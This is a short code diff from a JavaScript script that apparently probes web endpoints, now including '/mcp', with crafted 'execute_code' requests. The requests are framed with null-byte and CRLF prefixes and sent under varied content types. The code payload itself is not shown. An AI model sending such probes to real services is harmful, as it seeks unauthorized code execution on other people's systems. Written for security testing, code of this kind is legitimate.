@@ -9,7 +9,7 @@ const BARE = JSON.stringify({type: "execute_code", params: {code: CODE}});
 const HTTP = JSON.stringify({code: CODE});
 const BODIES = [FRAMED, "\0" + FRAMED, "\r\n\r\n" + FRAMED, BARE, HTTP];
 const KINDS = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json", ""];
-const PATHS = ["/health", "/status", "/metrics", "/execute", "/"];
+const PATHS = ["/health", "/status", "/metrics", "/execute", "/mcp", "/"];
 const PATIENCE_MS = 5000;
 
 const tried = [];
